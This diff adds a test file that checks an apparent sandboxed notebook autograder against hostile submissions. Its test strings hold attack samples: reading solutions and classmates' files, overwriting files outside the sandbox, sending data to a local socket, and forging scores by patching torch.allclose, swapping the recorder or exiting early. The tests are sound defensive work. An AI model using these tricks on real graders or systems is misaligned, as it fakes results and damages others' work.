@@ -1,0 +1,321 @@
+"""The grader against hostile submissions, on a small made-up assignment (seconds per run).
+
+Every attack is a blank or wrong submission that tries it; it must score 0 on what it
+targets and change nothing outside its own throwaway copy. The real assignments are
+graded end to end in tests/test_assignments.py.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import os
+import signal
+import socket
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import nbformat
+import pytest
+from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook
+
+from grading import batch, grade, report
+from grading.__main__ import main as grading_main
+from grading.generate import REPO_ROOT, exercise_from_solution
+from grading.sandbox import Limits, sandbox_problem
+
+pytestmark = pytest.mark.skipif(sandbox_problem() is not None, reason=f"no sandbox: {sandbox_problem()}")
+
+NAME = "01_double"
+ANSWER = "return 2 * x"
+STUB = "raise NotImplementedError()"
+
+
+def reference_notebook():
+    nb = new_notebook(cells=[
+        new_markdown_cell("# Assignment 1: doubling"),
+        new_code_cell("import torch\nSCALE = 2"),
+        new_code_cell("# PROBE SETUP\nfrom grading import probe"),
+        new_code_cell(f"def double(x):\n    ### BEGIN SOLUTION\n    {ANSWER}\n    ### END SOLUTION"),
+        new_code_cell("# CHECK 1.1 (2 points)\nassert double(torch.tensor(1.0)) == SCALE"),
+        new_code_cell("# PROBE 1.1\nprobe.record('1.1', 'double on a hidden vector', double(torch.tensor([3.0, -7.5, 1e300])))\n"
+                      "probe.forbid('1.1', 'double', 'mul')"),
+        new_code_cell("def noise(seed):\n    ### BEGIN SOLUTION\n    return torch.randn(3, generator=torch.Generator().manual_seed(seed))\n"
+                      "    ### END SOLUTION"),
+        new_code_cell("# CHECK 1.2 (1 point)\nassert noise(0).shape == (3,)"),
+        new_code_cell("# PROBE 1.2\nprobe.record('1.2', 'seed 1', noise(1), judge='range', low=-10, high=10)\n"
+                      "probe.record('1.2', 'seed 2', noise(2), judge='differs', target='seed 1', atol=1e-6)"),
+        new_markdown_cell("**Answer 1.3.**\n### BEGIN SOLUTION\nBecause doubling is linear.\n### END SOLUTION"),
+    ])
+    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
+    return nb
+
+
+@pytest.fixture(scope="module")
+def course(tmp_path_factory, real_root):
+    """A solutions folder holding the made-up assignment, and settings to grade it."""
+    root = tmp_path_factory.mktemp("course")
+    (root / "solutions").mkdir()
+    nbformat.write(reference_notebook(), root / "solutions" / f"{NAME}.ipynb")
+    settings = grade.Settings(data_root=real_root, solutions_dir=root / "solutions", cache_dir=root / "cache",
+                              limits=Limits(cell_seconds=20, notebook_seconds=60))
+    return root, settings
+
+
+def submission(path: Path, answer: str | None = None, extra: list | None = None, mutate=None) -> Path:
+    """The student copy with ``answer`` in place of the stub and ``extra`` cells appended."""
+    nb = exercise_from_solution(reference_notebook(), NAME)
+    if answer is not None:
+        cell = next(c for c in nb.cells if STUB in c.source and "double" in c.source)
+        cell.source = cell.source.replace(STUB, answer)
+    nb.cells += extra or []
+    if mutate:
+        mutate(nb)
+    path.parent.mkdir(parents=True, exist_ok=True)
+    nbformat.write(nb, path)
+    return path
+
+
+def points(path: Path, settings) -> dict[str, int]:
+    result, _, _ = grade.grade_file(path, settings)
+    assert result["error"] is None, result["error"]
+    return {v["question"]: v["points"] for v in result["verdicts"]}
+
+
+def tree_hash(*folders: Path) -> str:
+    digest = hashlib.sha256()
+    for folder in folders:
+        for path in sorted(p for p in folder.rglob("*") if p.is_file() and ".pytest_cache" not in p.parts
+                           and "__pycache__" not in p.parts and "build" not in p.relative_to(folder).parts[:1]):
+            digest.update(str(path).encode() + path.read_bytes())
+    return digest.hexdigest()
+
+
+# ---------------------------------------------------------------- honest submissions
+
+def test_solution_scores_full_marks_and_blank_scores_zero(course, tmp_path):
+    _, settings = course
+    assert points(submission(tmp_path / "a" / f"{NAME}.ipynb", ANSWER), settings)["1.1"] == 2
+    assert points(submission(tmp_path / "b" / f"{NAME}.ipynb"), settings) == {"1.1": 0, "1.2": 0}
+
+
+def test_wrong_answer_and_forbidden_name_score_zero(course, tmp_path):
+    _, settings = course
+    assert points(submission(tmp_path / "w" / f"{NAME}.ipynb", "return 2 * x + 1e-3"), settings)["1.1"] == 0
+    forbidden = submission(tmp_path / "f" / f"{NAME}.ipynb", "return torch.mul(x, 2)")
+    result, _, _ = grade.grade_file(forbidden, settings)
+    assert result["verdicts"][0]["points"] == 0 and "mul" in result["verdicts"][0]["status"]
+
+
+# ---------------------------------------------------------------- reading what it must not
+
+def test_cannot_read_the_solution_or_a_classmate(course, tmp_path):
+    root, settings = course
+    classmate = submission(tmp_path / "bob" / f"{NAME}.ipynb", ANSWER)
+    thief = f"""
+import json
+for path in [{str(root / 'solutions' / (NAME + '.ipynb'))!r}, {str(classmate)!r}, {str(REPO_ROOT / 'solutions')!r}]:
+    try:
+        open(path).read()
+        raise SystemExit('READ ' + path)
+    except (FileNotFoundError, PermissionError, IsADirectoryError):
+        pass
+"""
+    steal = "source = open({!r}).read()\nreturn 2 * x if 'return 2 * x' in source else None"
+    for target in (root / "solutions" / f"{NAME}.ipynb", classmate):
+        path = submission(tmp_path / "eve" / f"{NAME}.ipynb", steal.format(str(target)), [new_code_cell(thief)])
+        assert points(path, settings)["1.1"] == 0
+
+
+def test_saboteurs_change_nothing_outside_their_copy(course, tmp_path):
+    root, settings = course
+    peers = tmp_path / "class"
+    honest = submission(peers / "alice" / f"{NAME}.ipynb", ANSWER)
+    targets = [root / "solutions" / f"{NAME}.ipynb", honest, REPO_ROOT / "utils" / "data.py",
+               REPO_ROOT / "README.md", Path(sys.prefix) / "pyvenv.cfg", settings.data_root / "FashionMNIST" / "raw" / "MD5SUMS"]
+    sabotage = "import os\n" + "\n".join(
+        f"try:\n    open({str(t)!r}, 'w').write('pass')\nexcept OSError:\n    pass" for t in targets) + \
+        f"\ntry:\n    os.remove({str(honest)!r})\nexcept OSError:\n    pass"
+    submission(peers / "mallory" / f"{NAME}.ipynb", extra=[new_code_cell(sabotage)])
+    before = tree_hash(REPO_ROOT / "utils", REPO_ROOT / "solutions", root / "solutions", peers), \
+        hashlib.sha256((REPO_ROOT / "README.md").read_bytes()).hexdigest()
+    results = batch.grade_all([peers], settings, tmp_path / "out", jobs=2, echo=lambda line: None)
+    after = tree_hash(REPO_ROOT / "utils", REPO_ROOT / "solutions", root / "solutions", peers), \
+        hashlib.sha256((REPO_ROOT / "README.md").read_bytes()).hexdigest()
+    assert before == after
+    scores = {r["student"]: report.score(r)[0] for r in results}
+    assert scores == {"alice": 2, "mallory": 0}
+
+
+def test_no_network_inside(course, tmp_path):
+    _, settings = course
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen()
+    port = listener.getsockname()[1]
+    leak = f"import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'stolen')\nreturn 2 * x"
+    try:
+        assert points(submission(tmp_path / "n" / f"{NAME}.ipynb", leak), settings)["1.1"] == 0
+        listener.settimeout(0.1)
+        with pytest.raises(OSError):
+            listener.accept()
+    finally:
+        listener.close()
+
+
+# ---------------------------------------------------------------- forging the verdict
+
+FORGERIES = {
+    "custom exception handler": "get_ipython().set_custom_exc((Exception,), lambda *a, **k: None)",
+    "input transformer": ("def blank(lines):\n    return ['pass\\n'] if lines and lines[0].startswith('# PROBE') else lines\n"
+                          "get_ipython().input_transformers_cleanup.append(blank)"),
+    "patched torch": "import torch\ntorch.allclose = lambda *a, **k: True\ntorch.equal = lambda *a, **k: True",
+    "replaced recorder": ("class Forged:\n    def __getattr__(self, name):\n        return lambda *a, **k: None\n"
+                          "import builtins\nbuiltins.probe = Forged()"),
+    "forged results file": ("import json, os\njson.dump({'values': {'1.1': {'double on a hidden vector': "
+                            "{'shape': [3], 'data': [0, 0, 0]}}}, 'judges': {}, 'forbidden': {}}, "
+                            "open('probe-results.json', 'w'))\nos._exit(0)"),
+    "exit early": "import os\nos._exit(0)",
+}
+
+
+@pytest.mark.parametrize("attack", FORGERIES, ids=str)
+def test_forgeries_on_a_blank_answer_score_zero(attack, course, tmp_path):
+    _, settings = course
+    path = submission(tmp_path / "x" / f"{NAME}.ipynb", extra=[new_code_cell(FORGERIES[attack])],
+                      mutate=lambda nb: nb.cells.insert(2, new_code_cell(FORGERIES[attack])))
+    assert points(path, settings)["1.1"] == 0
+
+
+def test_wrong_answer_with_patched_torch_scores_zero(course, tmp_path):
+    _, settings = course
+    path = submission(tmp_path / "p" / f"{NAME}.ipynb", "return 3 * x",
+                      mutate=lambda nb: nb.cells.insert(2, new_code_cell(FORGERIES["patched torch"])))
+    assert points(path, settings)["1.1"] == 0
+
+
+def test_forged_outputs_tags_metadata_and_edited_checks_are_discarded(course, tmp_path):
+    _, settings = course
+
+    def forge(nb):
+        for cell in nb.cells:
+            if cell.cell_type != "code":
+                continue
+            cell.metadata["tags"] = ["skip-execution", "raises-exception"]
+            cell.execution_count = 1
+            cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="1.1 passed\n")]
+            if cell.source.startswith("# CHECK"):
+                cell.source = cell.source.split("\n")[0] + "\npass"
+        nb.metadata["workbook_assignment"] = {"id": NAME}
+    assert points(submission(tmp_path / "t" / f"{NAME}.ipynb", mutate=forge), settings) == {"1.1": 0, "1.2": 0}
+
+
+def test_moved_and_added_cells_keep_their_own_code_only(course, tmp_path):
+    """An answer moved to a new cell still counts; a probe copied into the notebook does not."""
+    _, settings = course
+    helper = new_code_cell("def helper(x):\n    return x + x")
+    path = submission(tmp_path / "m" / f"{NAME}.ipynb", "return helper(x)",
+                      mutate=lambda nb: nb.cells.insert(1, helper))
+    assert points(path, settings)["1.1"] == 2
+
+
+# ---------------------------------------------------------------- limits
+
+def test_stuck_cell_ignoring_sigint_is_stopped_and_the_batch_finishes(course, tmp_path):
+    _, settings = course
+    quick = grade.Settings(**{**settings.__dict__, "limits": Limits(cell_seconds=15, notebook_seconds=60)})
+    loop = "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"
+    submission(tmp_path / "class" / "loop" / f"{NAME}.ipynb", ANSWER, [new_code_cell(loop)])
+    submission(tmp_path / "class" / "fine" / f"{NAME}.ipynb", ANSWER)
+    started = time.monotonic()
+    results = {r["student"]: r for r in batch.grade_all([tmp_path / "class"], quick, tmp_path / "out",
+                                                        echo=lambda line: None)}
+    assert time.monotonic() - started < 120
+    assert "ran over 15 s" in results["loop"]["stopped"], results["loop"]
+    assert results["fine"]["stopped"] is None, results["fine"]
+    assert report.score(results["fine"])[0] == 2
+
+
+def test_every_process_of_the_sandbox_is_killed(course, tmp_path):
+    _, settings = course
+    quick = grade.Settings(**{**settings.__dict__, "limits": Limits(cell_seconds=15, notebook_seconds=60)})
+    marker = f"workbook-orphan-{os.getpid()}"
+    spawn = (f"import subprocess, signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
+             f"subprocess.Popen(['sh', '-c', 'exec -a {marker} sleep 600'], start_new_session=True)\n"
+             "while True:\n    pass")
+    grade.grade_file(submission(tmp_path / "o" / f"{NAME}.ipynb", extra=[new_code_cell(spawn)]), quick)
+    time.sleep(1)
+    alive = subprocess.run(["pgrep", "-f", marker], capture_output=True, text=True).stdout.split()
+    for pid in alive:
+        os.kill(int(pid), signal.SIGKILL)
+    assert not alive, "a process started by the submission outlived its run"
+
+
+def test_memory_hog_is_stopped_and_reported(course, tmp_path):
+    _, settings = course
+    hog = "big = bytearray(12 * 1024**3)"
+    result, executed, _ = grade.grade_file(submission(tmp_path / "h" / f"{NAME}.ipynb", extra=[new_code_cell(hog)]),
+                                           settings)
+    errors = [o.get("ename") for cell in executed.cells for o in cell.get("outputs", [])]
+    assert "MemoryError" in errors
+    assert report.score(result)[0] == 0
+
+
+# ---------------------------------------------------------------- inputs and outputs
+
+def test_bad_inputs_get_one_line_each_and_a_nonzero_exit(course, tmp_path, capsys):
+    root, _ = course
+    inbox = tmp_path / "inbox"
+    inbox.mkdir()
+    (inbox / "empty.ipynb").write_text("")
+    (inbox / "text.ipynb").write_text("not json")
+    (inbox / "list.ipynb").write_text("[1, 2]")
+    (inbox / "unreadable.ipynb").write_bytes(b"\xff\xfe\x00")
+    (tmp_path / "empty-folder").mkdir()
+    submission(inbox / "notes.ipynb", ANSWER, mutate=lambda nb: nb.metadata.pop("workbook_assignment"))
+    def renamed_with_written_answer(nb):
+        nb.metadata.pop("workbook_assignment")
+        for cell in nb.cells:
+            cell.source = cell.source.replace("YOUR ANSWER HERE", "Doubling is linear, as I show here.")
+    submission(inbox / "carol_4411_01-double (1).ipynb", ANSWER, mutate=renamed_with_written_answer)
+    code = grading_main(["grade", str(inbox), str(tmp_path / "missing.ipynb"), str(tmp_path / "empty-folder"),
+                         "--solutions", str(root / "solutions"), "--out", str(tmp_path / "out"),
+                         "--data", str(course[1].data_root), "--cell-timeout", "20"])
+    out = capsys.readouterr().out
+    assert code == 1
+    for name in ("empty.ipynb: the file is empty", "text.ipynb: not a valid", "list.ipynb: not a valid",
+                 "unreadable.ipynb: cannot be read", "missing.ipynb: no such file", "no .ipynb files",
+                 "notes.ipynb: matches no assignment"):
+        assert name in out, f"{name!r} not reported:\n{out}"
+    assert "carol_4411" in out and "2/3" in out  # an LMS-renamed file is matched by its name
+    gradebook = (tmp_path / "out" / "gradebook.csv").read_text()
+    assert gradebook.splitlines()[0] == "student,assignment,file,1.1,1.2,total,max,status"
+    assert (tmp_path / "out" / "verdicts.json").is_file() and (tmp_path / "out" / "written_answers.md").is_file()
+    assert "Doubling is linear, as I show here." in (tmp_path / "out" / "written_answers.md").read_text()
+
+
+def test_student_output_stays_out_of_the_report(course, tmp_path, capfd):
+    root, settings = course
+    loud = "import os, sys\nprint('total 8 8 100%')\nos.write(1, b'FORGED LINE\\n')\nos.write(2, b'FORGED ERR\\n')"
+    path = submission(tmp_path / "loud" / f"{NAME}.ipynb", extra=[new_code_cell(loud)])
+    code = grading_main(["grade", str(path), "--solutions", str(root / "solutions"), "--out", str(tmp_path / "out"),
+                         "--data", str(settings.data_root)])
+    captured = capfd.readouterr()
+    assert code == 0
+    assert "FORGED" not in captured.out + captured.err and "total 8 8" not in captured.out + captured.err
+    feedback = (tmp_path / "out" / "feedback" / "loud" / f"{NAME}.html").read_text()
+    assert "total 8 8 100%" in feedback and "probe.record(" not in feedback and "1e300" not in feedback
+
+
+def test_grading_refuses_without_sandbox_or_data(course, tmp_path, monkeypatch, capsys):
+    root, settings = course
+    path = submission(tmp_path / "s" / f"{NAME}.ipynb", ANSWER)
+    common = ["grade", str(path), "--solutions", str(root / "solutions"), "--out", str(tmp_path / "out")]
+    assert grading_main(common + ["--data", str(tmp_path / "nowhere")]) == 2
+    assert "real Fashion-MNIST" in capsys.readouterr().err
+    monkeypatch.setattr("grading.__main__.sandbox_problem", lambda: "`bwrap` is not installed. Install bubblewrap")
+    assert grading_main(common + ["--data", str(settings.data_root)]) == 2
+    assert "no sandbox" in capsys.readouterr().err
+    assert grading_main(common + ["--data", str(settings.data_root), "--no-sandbox"]) == 0
+    assert "--no-sandbox" in capsys.readouterr().out
